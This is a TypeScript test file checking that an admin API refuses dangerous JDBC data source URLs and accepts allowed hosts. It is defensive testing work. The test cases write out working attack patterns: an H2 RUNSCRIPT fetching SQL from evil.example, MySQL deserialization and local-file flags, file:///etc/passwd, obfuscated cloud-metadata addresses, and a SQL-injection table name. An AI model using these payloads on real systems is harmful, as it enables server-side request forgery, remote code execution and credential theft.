import { type AddressInfo, type Server, createServer } from 'node:net';
import { model } from '@lattice/api/resources/blade-develop/model';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { inTown } from './inTown.ts';

const POSTGRES = 'org.postgresql.Driver';
/** What PostgreSQL says to who is let in without a password: authentication is done, ready for queries. */
const WELCOME = Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 0, 0x5a, 0, 0, 0, 5, 0x49]);

/** A server on a port of this machine that counts who comes and says `words`, nothing without them. */
async function listen(words?: Buffer): Promise<{ server: Server; port: number; visits: () => number }> {
  let visits = 0;
  const server = createServer((socket) => {
    visits += 1;
    socket.on('error', () => undefined);
    socket.once('data', () => words && socket.write(words));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, visits: () => visits };
}

const options = {
  isSmall: true,
  settings: {
    datasourceHosts: ['127.0.0.1', 'db.town.example', '*.data.town.example', '10.0.0.0/8', '169.254.0.0/16', '::/0'],
  },
};

inTown('data sources on $name', options, ({ town, admin }) => {
  let open: Awaited<ReturnType<typeof listen>>;
  let silent: Awaited<ReturnType<typeof listen>>;
  let n = 0;
  const save = (driverClass: string, url: string, more: Record<string, unknown> = {}) =>
    admin.post('blade-develop/datasource/submit', {
      name: `库${(n += 1)}`,
      driverClass,
      url,
      username: 'reader',
      password: 'secret',
      ...more,
    });

  beforeAll(async () => {
    [open, silent] = [await listen(WELCOME), await listen()];
  });
  afterAll(async () => {
    open?.server.close();
    silent?.server.close();
  });

  it.each([
    [POSTGRES, 'file:///etc/passwd'],
    [POSTGRES, 'ldap://evil.example/x'],
    [POSTGRES, "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'"],
    [POSTGRES, 'jdbc:mysql://db.town.example/x'],
    [
      POSTGRES,
      'jdbc:postgresql://db.town.example/x?socketFactory=org.springframework.Context&socketFactoryArg=http://evil',
    ],
    [POSTGRES, 'jdbc:postgresql://db.town.example/x?ssl=true&ssl=%0a'],
    [POSTGRES, 'jdbc:postgresql://db.town.example,evil.example/x'],
    [POSTGRES, 'jdbc:postgresql://reader@evil.example/x'],
    ['com.mysql.cj.jdbc.Driver', 'jdbc:mysql://db.town.example/x?autoDeserialize=true&allowLoadLocalInfile=true'],
    ['com.mysql.cj.jdbc.Driver', 'jdbc:mysql://address=(host=evil.example)/x'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://db.town.example:5236?logDir=/tmp'],
    ['com.microsoft.sqlserver.jdbc.SQLServerDriver', 'jdbc:sqlserver://db.town.example;jaasConfigurationName=x'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://evil.example:5236'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://evildata.town.example:5236'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://11.0.0.1:5236'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://169.254.169.254:80'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://[::ffff:169.254.169.254]:80'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://[fe80::1]:80'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://[fd00:ec2::254]:80'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://2852039166:80'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://0xa9.0xfe.0xa9.0xfe:80'],
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://0.0.0.0:80'],
  ])('refuses %s at %s', async (driver, url) => {
    const { status, body } = await save(driver, url);
    expect(status).toBe(400);
    expect(body.data).toMatchObject({ issues: [{ field: 'url' }] });
  });

  it.each([
    ['dm.jdbc.driver.DmDriver', 'jdbc:dm://db.town.example:5236'],
    ['com.mysql.cj.jdbc.Driver', 'jdbc:mysql://a.data.town.example:3306/town?useSSL=true&characterEncoding=utf8'],
    ['oracle.jdbc.OracleDriver', 'jdbc:oracle:thin:@//10.1.2.3:1521/ORCL'],
    ['com.microsoft.sqlserver.jdbc.SQLServerDriver', 'jdbc:sqlserver://10.1.2.3:1433;databaseName=town;encrypt=true'],
    ['com.kingbase8.Driver', 'jdbc:kingbase8://10.1.2.3/town'],
  ])('takes %s at %s', async (driver, url) => {
    expect(await save(driver, url).status()).toBe(200);
  });

  it('tries PostgreSQL before it stores, with a deadline, and does not tell what was there', async () => {
    const url = (port: number) => `jdbc:postgresql://127.0.0.1:${port}/town`;
    expect(await save(POSTGRES, url(open.port)).status()).toBe(200);
    expect(open.visits()).toBe(1);
    const began = performance.now();
    const [mute, closed] = [await save(POSTGRES, url(silent.port)), await save(POSTGRES, url(1))];
    expect(performance.now() - began).toBeLessThan(30_000);
    expect([mute.status, closed.status]).toEqual([400, 400]);
    expect(mute.body.msg).toBe(closed.body.msg);
  });

  it.runIf(process.env.DATABASE_URL !== undefined)(
    'reads tables and columns of another PostgreSQL, as a model is made of them, and of no other kind',
    async () => {
      const { hostname, port, pathname, username, password } = new URL(process.env.DATABASE_URL ?? '');
      const made = await save(POSTGRES, `jdbc:postgresql://${hostname}:${port}${pathname}`, { username, password });
      const { id: datasourceId } = made.body.data as { id: string };
      const calls = admin.client(model);
      expect(Array.isArray(await calls.tableList({ datasourceId }))).toBe(true);
      await expect(calls.tableInfo({ datasourceId, tableName: "x'; drop table y" })).rejects.toThrow('没有名为');
      const other = await save('dm.jdbc.driver.DmDriver', 'jdbc:dm://db.town.example').data<{ id: string }>();
      await expect(calls.tableList({ datasourceId: other.id })).rejects.toThrow('PostgreSQL');
      await town.db.query(
        "update blade_develop_datasource set url = 'jdbc:postgresql://evil.example/x' where id = $1",
        [datasourceId],
      );
      await expect(calls.tableList({ datasourceId })).rejects.toThrow('DATASOURCE_HOSTS');
    },
  );

  it('keeps what is unchanged, and checks again what is changed', async () => {
    const id = (await save('dm.jdbc.driver.DmDriver', 'jdbc:dm://db.town.example').data<{ id: string }>()).id;
    await town.db.query("update blade_develop_datasource set url = 'jdbc:dm://old.example' where id = $1", [id]);
    const change = async (body: object) =>
      await admin.post('blade-develop/datasource/submit', { id, ...body }).status();
    expect(await change({ remark: '旧址' })).toBe(200);
    expect(await change({ password: 'other' })).toBe(400);
    expect(await change({ url: 'jdbc:dm://evil.example' })).toBe(400);
    expect(await change({ driverClass: POSTGRES })).toBe(400);
    expect(await change({ url: 'jdbc:dm://db.town.example:5237' })).toBe(200);
  });
});
